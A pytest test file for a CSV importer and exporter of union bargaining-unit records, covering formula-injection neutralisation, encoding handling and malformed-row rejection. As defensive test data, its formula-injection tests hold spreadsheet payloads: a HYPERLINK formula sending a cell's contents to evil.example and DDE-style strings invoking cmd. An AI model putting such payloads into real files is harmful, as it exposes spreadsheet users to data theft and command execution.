"""CSV files in and out, when they are hostile or odd (issue 14, hardening 6, 7 and 12):
formulas neutralised in what the library writes, any encoding read (or each unreadable line
reported), a report always returned, and nothing silently taken for something else."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import attrs
import pytest

from bargaining import Actor, BargainingApp, InvalidInput, write_csv, write_jsonl
from bargaining.adapters.csv_import import F7_MAPPING, ColumnMapping, CsvImporter

HEADER = ("notice_date,expiration_date,employer,union,unit_city,unit_state,industry_code,"
          "bargaining_unit_size,establishment_size\n")


def row(employer: str, size: str = "10", expiry: str = "2004-01-31") -> str:
    return f"2003-09-30,{expiry},{employer},SEIU - 1,CHICAGO,IL,J,{size},10\n"


def f7(app: BargainingApp, actor: Actor, **kwargs: object) -> CsvImporter:
    return CsvImporter(app, F7_MAPPING, actor=actor, **kwargs)  # type: ignore[arg-type]


# ------------------------------------------------------ 6: formula injection


@pytest.mark.parametrize("hostile", [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
])
def test_an_audit_export_neutralises_cells_a_spreadsheet_would_run(
        memory_app: BargainingApp, hostile: str) -> None:
    uid = memory_app.units.register(union="CUPE", local="79", employer="City",
                                    unit_name="Inside", actor=Actor("org-1", "steward"))
    unit = memory_app.units.get(uid)
    # Recorded as release 0.1 allowed (actor ids were unchecked): exports must still be safe.
    unit.trigger_event(unit.HeadcountChanged, headcount=7,  # type: ignore[attr-defined]
                       actor=Actor(hostile, "steward"), reason=hostile, counted_on=None)
    memory_app.save(unit)
    out = io.StringIO()
    write_csv(memory_app.history.of(uid), out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[-1]["actor_id"] == "'" + hostile
    assert rows[-1]["reason"] == "'" + hostile
    assert all(not cell or cell[0] not in "=+-@\t\r" for r in rows for cell in r.values())
    lines = io.StringIO()
    write_jsonl(memory_app.history.of(uid), lines)
    last = json.loads(lines.getvalue().splitlines()[-1])
    assert (last["actor_id"], last["reason"]) == (hostile, hostile)  # JSON Lines: as recorded


def test_numbers_in_an_export_stay_numbers(memory_app: BargainingApp, steward: Actor) -> None:
    uid = memory_app.units.register(union="CUPE", local="79", employer="City",
                                    unit_name="Inside", actor=steward, headcount=5)
    out = io.StringIO()
    write_csv(memory_app.history.of(uid), out)
    (record,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert record["version"] == "1"


def test_the_rejects_file_neutralises_formulas_but_keeps_plain_numbers(
        memory_app: BargainingApp, steward: Actor, tmp_path: Path) -> None:
    report = f7(memory_app, steward).import_text(
        HEADER + row("=HYPERLINK(\"http://evil.example\")", expiry="")
        + row("NEGATIVE", size="-4") + row("SUM", size="-2+3"))
    out = tmp_path / "rejects.csv"
    assert report.write_rejects(out) == 3
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["employer"] == "'=HYPERLINK(\"http://evil.example\")"
    assert rows[1]["bargaining_unit_size"] == "-4"  # a plain number runs nothing
    assert rows[2]["bargaining_unit_size"] == "'-2+3"


def test_a_corrected_rejects_file_imports_without_the_quote(
        memory_app: BargainingApp, steward: Actor, tmp_path: Path) -> None:
    report = f7(memory_app, steward).import_text(HEADER + row("=ACME", expiry=""))
    out = tmp_path / "rejects.csv"
    report.write_rejects(out)
    fixed = out.read_text(encoding="utf-8").replace(",,'=ACME", ",2004-01-31,'=ACME")
    mapping = attrs.evolve(F7_MAPPING)
    again = CsvImporter(memory_app, mapping, actor=steward).import_text(fixed)
    assert again.imported == 1, again.rejected
    assert [u.employer for u in memory_app.expiry_map.all_units()] == ["=ACME"]


# ----------------------------------------------------------- 7: encodings


def write(tmp_path: Path, text: str, encoding: str, bom: bytes = b"") -> Path:
    path = tmp_path / f"notices-{encoding}.csv"
    path.write_bytes(bom + text.encode(encoding))
    return path


@pytest.mark.parametrize("encoding, bom", [
    ("utf-8", b"\xef\xbb\xbf"), ("utf-16-le", b"\xff\xfe"), ("utf-16-be", b"\xfe\xff"),
])
def test_a_byte_order_mark_says_the_encoding(memory_app: BargainingApp, steward: Actor,
                                             tmp_path: Path, encoding: str, bom: bytes) -> None:
    path = write(tmp_path, HEADER + row("CAFÉ MONTRÉAL"), encoding, bom)
    report = f7(memory_app, steward).import_file(path)
    assert (report.imported, report.rejected[:]) == (1, [])
    assert memory_app.expiry_map.all_units()[0].employer == "CAFÉ MONTRÉAL"


@pytest.mark.parametrize("encoding", ["latin-1", "cp1252"])
def test_a_file_in_another_encoding_is_read_when_named(memory_app: BargainingApp,
                                                       steward: Actor, tmp_path: Path,
                                                       encoding: str) -> None:
    path = write(tmp_path, HEADER + row("CAFÉ MONTRÉAL") + row("NAÏVE INC"), encoding)
    report = f7(memory_app, steward).import_file(path, encoding=encoding)
    assert report.imported == 2 and report.balanced


def test_lines_that_are_not_utf8_are_rejected_by_number_and_the_rest_imported(
        memory_app: BargainingApp, steward: Actor, tmp_path: Path) -> None:
    lines = [row(f"EMPLOYER {n}").encode() for n in range(2, 3001)]  # lines 2 to 3000
    lines[2998 - 2] = row("CAFÉ").encode("latin-1")  # line 2998: one latin-1 byte
    path = tmp_path / "mixed.csv"
    path.write_bytes(HEADER.encode() + b"".join(lines))
    report = f7(memory_app, steward, batch_size=500).import_file(path)
    assert report.rows_read == 2999 and report.balanced
    assert [(r.line, r.reason) for r in report.rejected] == [
        (2998, "the line is not utf-8 text (byte 0xc9): name the file's encoding, such as "
               "encoding='cp1252'")]
    assert report.imported == 2998


def test_a_utf16_file_without_a_byte_order_mark_says_so(memory_app: BargainingApp,
                                                        steward: Actor, tmp_path: Path) -> None:
    path = write(tmp_path, HEADER + row("ACME"), "utf-16-le")
    with pytest.raises(InvalidInput, match="encoding='utf-16-le'"):
        f7(memory_app, steward).import_file(path)


def test_an_unknown_encoding_is_refused(memory_app: BargainingApp, steward: Actor,
                                        tmp_path: Path) -> None:
    path = write(tmp_path, HEADER + row("ACME"), "utf-8")
    with pytest.raises(InvalidInput, match="no encoding called 'klingon'"):
        f7(memory_app, steward).import_file(path, encoding="klingon")


def test_a_field_too_long_for_csv_is_a_rejected_line_and_the_import_goes_on(
        memory_app: BargainingApp, steward: Actor, tmp_path: Path) -> None:
    lines = [row(f"EMPLOYER {n}") for n in range(2, 3001)]
    lines[2998] = row("X" * 140_000)  # line 3000
    path = tmp_path / "long.csv"
    path.write_text(HEADER + "".join(lines) + row("AFTER"), encoding="utf-8")
    report = f7(memory_app, steward, batch_size=1000).import_file(path)
    assert [(r.line, r.reason) for r in report.rejected] == [
        (3000, "the line cannot be read as CSV: field larger than field limit (131072)")]
    assert report.imported == 2999 and report.balanced


def test_a_nul_byte_in_a_field_is_a_rejected_row(memory_app: BargainingApp,
                                                 steward: Actor) -> None:
    report = f7(memory_app, steward).import_text(HEADER + row("AC\x00ME") + row("GOOD"))
    assert [(r.line, r.reason) for r in report.rejected] == [
        (2, "the employer contains a control character; names are plain text")]
    assert report.imported == 1


# ------------------------------------------------------- 12: CSV surprises


def test_a_header_naming_a_column_twice_is_refused(memory_app: BargainingApp,
                                                   steward: Actor) -> None:
    text = HEADER.replace("\n", ",employer\n") + row("GOOD").replace("\n", ",OTHER\n")
    with pytest.raises(InvalidInput, match="names the column 'employer' twice"):
        f7(memory_app, steward).import_text(text)
    assert memory_app.expiry_map.all_units() == []


def test_blank_header_columns_may_repeat(memory_app: BargainingApp, steward: Actor) -> None:
    text = HEADER.replace("\n", ",,\n") + row("GOOD").replace("\n", ",,\n")
    assert f7(memory_app, steward).import_text(text).imported == 1


def test_date_formats_given_as_one_string_is_one_format(memory_app: BargainingApp,
                                                        steward: Actor) -> None:
    mapping = attrs.evolve(F7_MAPPING, date_formats="%d/%m/%Y")
    assert mapping.date_formats == ("%d/%m/%Y",)
    report = CsvImporter(memory_app, mapping, actor=steward).import_text(
        HEADER + row("GOOD", expiry="31/01/2004"))
    assert report.imported == 1, report.rejected


@pytest.mark.parametrize("formats", [(), ("",), ("31/01/2004",), (5,), None])
def test_date_formats_that_cannot_read_a_date_are_refused(formats: object) -> None:
    with pytest.raises(InvalidInput, match="date_formats"):
        ColumnMapping(union="u", employer="e", expiry="x",
                      date_formats=formats)  # type: ignore[arg-type]


@pytest.mark.parametrize("size, reason", [
    ("1_000", "unit size '1_000' is not a whole number"),
    ("\u0663", "unit size '\u0663' is not a whole number"),
    ("1,00", "unit size '1,00' is not a whole number"),
    ("1.5", "unit size '1.5' is not a whole number"),
    ("+5", "unit size '+5' is not a whole number"),
])
def test_unit_sizes_are_ascii_digits(memory_app: BargainingApp, steward: Actor, size: str,
                                     reason: str) -> None:
    report = f7(memory_app, steward).import_text(HEADER + row("ACME", size=f'"{size}"'))
    assert [(r.line, r.reason) for r in report.rejected] == [(2, reason)]


@pytest.mark.parametrize("size, count", [("1,250", 1250), ("12,000,000", None), ("0", 0),
                                         (" 42 ", 42)])
def test_unit_sizes_may_group_thousands_with_commas(memory_app: BargainingApp, steward: Actor,
                                                    size: str, count: int | None) -> None:
    report = f7(memory_app, steward).import_text(HEADER + row("ACME", size=f'"{size}"'))
    if count is None:
        assert "beyond any bargaining unit" in report.rejected[0].reason
    else:
        assert report.imported == 1
        assert memory_app.expiry_map.all_units()[0].headcount == count
